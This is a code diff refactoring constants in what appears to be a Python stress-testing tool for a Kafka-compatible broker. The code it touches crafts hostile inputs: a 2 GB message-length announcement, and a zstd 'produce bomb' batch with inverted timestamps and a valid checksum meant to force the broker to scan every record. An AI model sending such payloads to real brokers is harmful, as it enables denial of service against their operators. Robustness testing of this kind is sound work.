@@ -20,10 +20,12 @@ from kbroker.cli.raw_client import RawClient
 from tools.topic_requests import produce_request
 from wire.api_keys import ApiKey
 from wire.headers import encode_request
+from wire.integers import MAX_INT32
 from wire.messages.fetch import FetchPartition, FetchRequest, FetchTopic
 from wire.messages.metadata import MetadataRequest
 from wire.messages.produce import PartitionProduceData, ProduceRequest, TopicProduceData
-from wire.records.batch import CRC_START, HEADER, LOG_OVERHEAD
+from wire.records.batch import CRC_START, HEADER, LOG_OVERHEAD, NEWEST_MAGIC
+from wire.records.compression import Compression
 from wire.records.crc32c import crc32c
 
 PLAIN_TOPIC, COMPACTED_TOPIC, BIG_TOPIC = "plain", "compacted", "big"
@@ -130,7 +132,7 @@ class Behaviour:
 
 
 def announce_2_gb(attack: Attack) -> None:
-    attack.say((0x7FFFFFFF).to_bytes(4, "big") + b"x" * 4096, 50)
+    attack.say(MAX_INT32.to_bytes(4, "big") + b"x" * 4096, 50)
 
 
 def announce_negative(attack: Attack) -> None:
@@ -262,7 +264,6 @@ FEW_RECORDS = 149_000
 # Length, attributes, timestamp delta, offset delta, key, value (null), headers.
 _EMPTY_KEY = b"\x0c\0\0\0\0\x01\0"
 _NO_KEY = b"\x0c\0\0\0\x01\x01\0"
-_ZSTD = 4
 
 
 @cache
@@ -294,8 +295,8 @@ def _zstd(start: bytes, pieces: Iterator[bytes]) -> bytes:
 def _produce_bomb(attack: Attack, topic: str, body: bytes, count: int) -> None:
     """The header's greatest timestamp is below its first: Kafka then has to look at all records."""
     header = HEADER.pack(
-        0, HEADER.size - LOG_OVERHEAD + len(body), -1, 2, 0, _ZSTD, count - 1, NOW_MS, NOW_MS - 1,
-        -1, -1, -1, count,
+        0, HEADER.size - LOG_OVERHEAD + len(body), -1, NEWEST_MAGIC, 0, Compression.ZSTD,
+        count - 1, NOW_MS, NOW_MS - 1, -1, -1, -1, count,
     )  # fmt: skip
     checksum = crc32c(body, crc32c(header[CRC_START:]))
     batch = header[: CRC_START - 4] + checksum.to_bytes(4, "big") + header[CRC_START:] + body
